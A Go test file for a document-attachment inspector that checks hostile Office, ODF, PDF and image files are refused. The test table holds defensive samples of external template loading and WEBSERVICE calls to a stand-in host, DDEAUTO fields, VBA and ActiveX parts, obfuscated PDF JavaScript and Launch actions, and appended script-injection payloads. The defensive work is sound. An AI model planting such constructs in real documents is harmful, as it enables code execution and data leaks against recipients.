// SPDX-License-Identifier: EUPL-1.2

package attachment

import (
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"
)

// filesOf returns the files of an archive in testdata.
func filesOf(t testing.TB, archive string) []txtar.File {
	t.Helper()
	a, err := txtar.ParseFile(filepath.Join("testdata", archive))
	if err != nil {
		t.Fatal(err)
	}
	return a.Files
}

// TestHostile holds that every file of the table is refused: opened by its
// address it would run code, load something or pass for a page.
func TestHostile(t *testing.T) {
	all := filesOf(t, "hostile.txtar")
	if len(all) < 100 {
		t.Errorf("%d hostile files, want at least 100", len(all))
	}
	for _, f := range all {
		// What is not of the type that its name says is refused for that.
		if info := Inspect(f.Name, f.Data); info.Program == "" && info.Format.Fits(f.Name) {
			t.Errorf("%s is accepted as %q (%s):\n%.300s", f.Name, info.Format.Name, info.Problem, f.Data)
		}
	}
}

// TestHarmless holds that documents of every day pass.
func TestHarmless(t *testing.T) {
	for _, f := range filesOf(t, "harmless.txtar") {
		if info := Inspect(f.Name, f.Data); info.Program != "" || info.Problem != "" || !info.Format.Fits(f.Name) {
			t.Errorf("%s is refused as %q: %s %s", f.Name, info.Format.Name, info.Program, info.Problem)
		}
	}
}

// TestHostileParts does the same for what is hostile inside a container.
func TestHostileParts(t *testing.T) {
	office := func(parts ...string) []byte {
		return zipOf(t, append([]string{"word/document.xml", "<a/>"}, parts...)...)
	}
	external := `<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://fuori.example/a.dotm" TargetMode="External"/></Relationships>`
	odf := func(body string) []byte {
		return zipOf(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml", `<a xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">`+body+`</a>`)
	}
	for _, c := range []struct {
		name string
		data []byte
		acts bool
	}{
		{"template.docx", office("word/_rels/settings.xml.rels", external), true},
		{"controllo.docx", office("word/activeX/activeX1.xml", "<a/>"), true},
		{"collegamento.docx", office("word/_rels/document.xml.rels", `<Relationships><Relationship Type="http://x/hyperlink" Target="https://www.comune.example/" TargetMode="External"/></Relationships>`), false},
		{"evento.odt", odf(`<script:event-listener script:event-name="dom:load"/>`), true},
		{"immagine.odt", odf(`<image xlink:href="https://fuori.example/a.png"/>`), true},
		{"interna.odt", odf(`<image xlink:href="Pictures/a.png"/><a xlink:href="https://www.comune.example/"/>`), false},
		{"codice.pdf", plainPDF("<</Producer(P)/X<</Y[<</S/JavaScript>>]>>>>"), true},
		{"xfa.pdf", plainPDF("<</Producer(P)/XFA 9 0 R>>"), true},
		{"invio.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n<</S/SubmitForm/F(https://fuori.example)>>"), true},
		{"collegamento.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.comune.example)>>>>"), false},
		{"indirizzo.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n<</Type/Annot/Subtype/Link/A<</S/URI/URI( JavaScript:app.alert\\(1\\))>>>>"), true},
		{"pagina-cifrata.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n<</Type/Annot/Subtype/Link/A<</S/URI/URI<646174613A746578742F68746D6C2C78>>>>>"), true},
		{"base.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n<</Type/Catalog/URI<</Base(vbscript:x)>>>>"), true},
		{"maiuscole.docx", office("word/_RELS/settings.xml.RELS", external), true},
		{"altra-macro.docx", office("word/_rels/document.xml.rels", `<Relationships><Relationship Type="http://x/vbaProject" Target="innocuo.bin"/></Relationships>`), true},
		{"pagina-dentro.docx", office("word/_rels/document.xml.rels", `<Relationships><Relationship Type="http://x/aFChunk" Target="a.html"/></Relationships>`), true},
		{"tipo.docx", office("[Content_Types].xml", `<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>`), true},
		{"sedici-bit.docx", office("word/_rels/document.xml.rels", "\xff\xfe<\x00a\x00/\x00>\x00"), true},
		{"ole.docx", office("word/embeddings/a.dat", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), true},
		{"gonfio.docx", office("docProps/core.xml", strings.Repeat(" ", maxPart+1), "word/_rels/settings.xml.rels", external), true},
		{"molto-testo.docx", office("word/a.xml", "<a>"+strings.Repeat("<p>x</p>", maxPieces+1)+"<instrText>DDEAUTO c:\\x</instrText></a>"), true},
		{"molto-testo-innocuo.docx", office("word/a.xml", "<a>"+strings.Repeat("<p>x</p>", maxPieces+1)+"</a>", "word/b.xml", `<?xml version="1.0" encoding="UTF-8"?><a/>`, "word/_rels/b.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships><Relationship Type="http://x/image" Target="a.png"/></Relationships>`), false},
		{"molto-xml.docx", office("word/theme/1.xml", "<a>"+strings.Repeat(" ", 8<<20)+"</a>", "word/theme/2.xml", "<a>"+strings.Repeat(" ", 8<<20)+"</a>", "word/z.xml", "<a><instrText>DDE</instrText></a>"), true},
		{"campo.docx", office("word/header1.xml", `<a><fldChar/><instrText>DD</instrText><instrText>EAUTO c:\x</instrText></a>`), true},
		{"campo-semplice.docx", office("word/header1.xml", `<a><fldSimple instr=' INCLUDEPICTURE "https://fuori.example/a.png"'/></a>`), true},
		{"campo-annidato.docx", office("word/header1.xml", `<a><fldChar/><instrText> </instrText><fldChar/><instrText>QUOTE 68 68 69</instrText></a>`), true},
		{"campi.docx", office("word/header1.xml", `<a><fldChar/><instrText> PAGE </instrText><fldChar/><instrText>HYPERLINK "https://www.comune.example/link"</instrText><fldSimple instr="NUMPAGES"/></a>`), false},
		{"altra-parte.docx", office("word/innocuo.dat", `<a><instrText>DDE a b</instrText></a>`), true},
		{"passaggio.pptx", zipOf(t, "ppt/presentation.xml", "<a/>", "ppt/slides/slide1.xml", `<a><hlinkClick action="ppaction://program"/></a>`), true},
		{"dde.xlsx", zipOf(t, "xl/workbook.xml", "<a/>", "xl/externalLinks/externalLink1.xml", `<a><ddeLink ddeService="cmd"/></a>`), true},
		{"formula.xlsx", zipOf(t, "xl/workbook.xml", "<a/>", "xl/worksheets/sheet1.xml", `<a><c r="A1"><f>1+_xlfn.WEBSERVICE("https://fuori.example")</f></c></a>`), true},
		{"formule.xlsx", zipOf(t, "xl/workbook.xml", "<a/>", "xl/worksheets/sheet1.xml", `<a><c r="A1"><f>SUM(Foglio1!A1:A9)&amp;"a|b"</f></c></a>`), false},
		{"avvio.xlsx", zipOf(t, "xl/workbook.xml", `<a><definedName name="_xlnm.Auto_Open"/></a>`), true},
		{"dati.xlsx", zipOf(t, "xl/workbook.xml", "<a/>", "xl/_rels/workbook.xml.rels", `<Relationships><Relationship Type="http://x/connections" Target="c.xml"/></Relationships>`), true},
		{"grafico.docx", office("word/embeddings/a.xlsx", string(zipOf(t, "xl/workbook.xml", "<a/>"))), false},
		{"grafico-ostile.docx", office("word/embeddings/a.xlsx", string(zipOf(t, "xl/workbook.xml", "<a/>", "xl/vbaProject.bin", "x"))), true},
		{"biblioteca.odt", zipOf(t, "mimetype", "application/vnd.oasis.opendocument.text", "Basic/Altra/Modulo.xml", "<a/>"), true},
		{"dde.odt", odf(`<dde-source/>`), true},
		{"percorso.odt", odf(`<image xlink:href="\\fuori.example\a.png"/>`), true},
		{"senza-schema.odt", odf(`<image xlink:href="//fuori.example/a.png"/>`), true},
		{"formula.odt", odf(`<table-cell formula="of:=WEBSERVICE(&quot;https://fuori.example&quot;)"/>`), true},
		{"oggetto.odt", zipOf(t, "mimetype", "application/vnd.oasis.opendocument.text", "Object 1/content.xml", `<a xmlns:script="urn:x:script:1.0"><script:event-listener/></a>`), true},
		{"cifrato-per-finta.odt", zipOf(t, "mimetype", "application/vnd.oasis.opendocument.text", "META-INF/manifest.xml", "<a><!--encryption-data--></a>", "content.xml", "\xff\xfe<\x00"), true},
		{"archivio.docx", office("word/embeddings/a.zip", string(zipOf(t, "a.txt", "x"))), true},
		{"vecchio.docx", office("word/embeddings/a.doc", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), true},
		{"appesa.pdf", append(plainPDF("<</Producer(P)>>"), "<img src=x onerror=alert(1)>"...), true},
		{"appesa.docx", append(office(), "<html><script>alert(1)</script>"...), true},
		{"etichetta.png", append(pngOf(t), "<img src=x onerror=alert(1)>"...), true},
		{"etichetta.jpg", append(jpegOf(t), "<svg onload=alert(1)>"...), true},
		{"appesa.png", append(pngOf(t), "<script>alert(1)</script>"...), true},
		{"lanterna.pdf", pdfOf("", "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 9 0 R>>>>"), true},
		{"apertura.pdf", pdfOf("", "<</Type/Catalog/OpenAction 2 0 R>>", "<</S/GoToR/F(x.pdf)>>"), true},
		{"prima-pagina.pdf", pdfOf("", "<</Type/Catalog/OpenAction[3 0 R/Fit]/AA<<>>>>"), false},
		{"due-cataloghi.pdf", pdfOf("", "<</Type/Catalog/OpenAction 2 0 R>>", "<</S/URI/URI(https://fuori.example)>>", "<</Type/Catalog>>"), true},
		{"evento.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n<</Type/Page/AA 10 0 R>>"), true},
		{"cancelletto.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n<</#53 %x\n/J#61vaScript>>"), true},
		{"nome-a-parte.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n<</S 10 0 R/F(x.exe)>>\nendobj\n10 0 obj\n/L#61unch"), true},
		{"in-un-flusso.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n<</Length 50>>\nstream\n 10 0 obj\n<</S/JavaScript/JS(app.alert(1))>> endobj\nendstream"), true},
		{"molte-voci.pdf", plainPDF("<</Producer(P)" + strings.Repeat("/A", 2000) + "/A<</S/JavaScript/JS(x)>>>>"), true},
		{"profondo.pdf", plainPDF("<</Producer(P)/A" + strings.Repeat("[", 30) + "<</S/Launch>>" + strings.Repeat("]", 30) + ">>"), true},
		{"impacchettato.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n" + packed("/Type/ObjStm/N 1/First 4", "7 0 <</S/JavaScript/JS(x)>>")), true},
		{"impacchettato-due-volte.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]/Length 2>>\nstream\n00\nendstream"), true},
		{"impacchettato-innocuo.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n" + packed("/Type/ObjStm/N 1/First 4", "7 0 <</X(/S /URI)>>")), false},
		{"file-dentro.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n<</Type/Filespec/F(a.exe)/EF<</F 10 0 R>>>>"), true},
		{"file-dentro-nascosto.pdf", plainPDF("<</Producer(P)>>\nendobj\n9 0 obj\n<</Length 40>>\nstream\n<</Type /EmbeddedFile/Length 0>>\nendstream"), true},
		{"pagina.pdf", append([]byte("<script>alert(1)</script>\n"), plainPDF("<</Producer(P)>>")...), true},
	} {
		if info := Inspect(c.name, c.data); (info.Program != "") != c.acts {
			t.Errorf("%s: acts = %q, want %v", c.name, info.Program, c.acts)
		}
	}
}
